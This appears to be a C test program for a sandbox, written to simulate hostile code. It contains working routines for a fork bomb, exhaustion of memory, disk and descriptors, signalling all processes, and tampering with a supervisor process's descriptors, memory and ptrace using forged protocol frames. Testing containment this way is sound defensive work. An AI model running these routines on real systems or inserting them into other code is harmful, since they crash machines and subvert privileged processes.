/*
 * usage: attack WHAT [NUMBER]
 * What hostile code in a sandbox tries. Static, for it runs in images without any library.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MEBIBYTE = 1 << 20, LAST_PID = 400, FDS = 64 };

/* A frame of the hand's protocol that says: command 2 ended well (type 0x87 and an id). */
static const char forged[] = "\x08\0\0\0\x87\x02\0\0\0--------";

/* Everything but itself gets the signal, whether it may be seen or not. */
static void signal_all(long number)
{
    kill(-1, (int)number);
    for (pid_t pid = 1; pid < LAST_PID; pid++) {
        if (pid != getpid()) {
            kill(pid, (int)number);
        }
    }
}

static int is_hand(const char *pid)
{
    char path[64];
    char text[4096] = "";
    ssize_t got;
    int fd;

    snprintf(path, sizeof path, "/proc/%.16s/cmdline", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    got = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
    close(fd);
    /* A keeper of namespaces is as good: it holds what the hand holds. */
    return got > 0 && (strstr(text, "waldo-hand") != NULL || strstr(text, "bwrap") != NULL ||
                       strcmp(pid, "1") == 0);
}

static void try_fds(const char *pid)
{
    char path[64];
    int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);

    for (int n = 0; n < FDS; n++) {
        int fd;

        snprintf(path, sizeof path, "/proc/%.16s/fd/%d", pid, n);
        fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0) {
            printf("opened %s: %zd\n", path, write(fd, forged, sizeof forged - 1));
            close(fd);
        }
        fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
        if (fd >= 0) {
            printf("taken %s: %zd\n", path, write(fd, forged, sizeof forged - 1));
            close(fd);
        }
    }
    close(pidfd);
}

/* Into every process that carries the hand: its descriptors, its memory, its registers. */
static void invade(void)
{
    DIR *dir = opendir("/proc");
    struct dirent *entry;
    int hands = 0;

    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        char path[64];
        int fd;

        if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid() ||
            !is_hand(entry->d_name)) {
            continue;
        }
        hands++;
        try_fds(entry->d_name);
        snprintf(path, sizeof path, "/proc/%.16s/mem", entry->d_name);
        fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd >= 0) {
            printf("opened %s\n", path);
            close(fd);
        }
        if (ptrace(PTRACE_ATTACH, atoi(entry->d_name), 0, 0) == 0) {
            printf("traces %s\n", entry->d_name);
        }
    }
    printf("tried %d\n", hands);
}

/* For as long as it lives. */
static void fork_bomb(void)
{
    for (;;) {
        fork();
        setsid();
    }
}

/* Memory that is really used; of this process, or of many. */
static void eat(long mebibytes)
{
    for (long i = 0; i < mebibytes; i++) {
        char *piece =
            mmap(NULL, MEBIBYTE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (piece == MAP_FAILED) {
            printf("refused after %ld\n", i);
            exit(9);
        }
        memset(piece, 1, MEBIBYTE);
    }
}

/* Both streams, and frames among them. */
static void flood(long mebibytes)
{
    static char piece[MEBIBYTE];

    for (size_t i = 0; i + sizeof forged - 1 < sizeof piece; i += sizeof forged - 1) {
        memcpy(piece + i, forged, sizeof forged - 1);
    }
    for (long i = 0; i < mebibytes; i++) {
        if (write(1, piece, sizeof piece) < 0 || write(2, piece, sizeof piece) < 0) {
            exit(1);
        }
    }
}

static void make_deep(long levels)
{
    for (long i = 0; i < levels; i++) {
        if (mkdir("directory", 0755) != 0 || chdir("directory") != 0) {
            printf("%s after %ld\n", strerror(errno), i);
            exit(1);
        }
    }
}

static void make_many(long count)
{
    char name[32];

    for (long i = 0; i < count; i++) {
        snprintf(name, sizeof name, "many-%ld", i);
        close(open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    }
}

/* Until there is no room, or so much was written. */
static void fill(const char *path, long mebibytes)
{
    static char piece[MEBIBYTE];
    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);

    for (long i = 0; i < mebibytes; i++) {
        if (write(fd, piece, sizeof piece) < 0) {
            printf("%s\n", strerror(errno));
            return;
        }
    }
    printf("filled\n");
}

/* Sockets to nobody, closed by nobody: as many descriptors as there may be. */
static void take_descriptors(void)
{
    int count = 0;

    while (open("/dev/null", O_RDONLY | O_CLOEXEC) >= 0) {
        count++;
    }
    printf("%d then %s\n", count, strerror(errno));
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    long number = argc > 2 ? atol(argv[2]) : 0;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(what, "signal") == 0) {
        signal_all(number);
    } else if (strcmp(what, "invade") == 0) {
        invade();
    } else if (strcmp(what, "fork") == 0) {
        fork_bomb();
    } else if (strcmp(what, "eat") == 0) {
        eat(number);
    } else if (strcmp(what, "flood") == 0) {
        flood(number);
    } else if (strcmp(what, "deep") == 0) {
        make_deep(number);
    } else if (strcmp(what, "many") == 0) {
        make_many(number);
    } else if (strcmp(what, "fill") == 0 && argc > 3) {
        fill(argv[3], number);
    } else if (strcmp(what, "descriptors") == 0) {
        take_descriptors();
    } else {
        fprintf(stderr, "usage: attack WHAT [NUMBER]\n");
        return 2;
    }
    return 0;
}
